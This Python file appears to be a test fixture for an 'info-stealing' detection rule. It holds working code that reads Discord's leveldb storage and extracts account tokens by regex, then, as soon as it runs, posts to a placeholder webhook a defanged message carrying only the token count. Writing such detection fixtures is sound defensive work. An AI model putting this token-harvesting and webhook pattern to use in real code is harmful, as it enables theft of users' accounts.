import json
import os
import re
import urllib.request

HOOK = 'https://discord.com/api/webhooks/0000/placeholder'


def _tokens():
    found = []
    # ruleid: code/info-stealing
    store = str(os.getenv('APPDATA')) + '\\discord\\Local Storage\\leveldb'
    if not os.path.isdir(store):
        return found
    for name in os.listdir(store):
        if not name.endswith(('.log', '.ldb')):
            continue
        with open(os.path.join(store, name), errors='ignore') as fh:
            text = fh.read()
        # ruleid: code/info-stealing
        found += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', text)
    return found


def _send():
    body = json.dumps({'content': 'defanged', 'count': len(_tokens())}).encode()
    req = urllib.request.Request(HOOK, data=body, headers={'Content-Type': 'application/json'})
    try:
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass


_send()
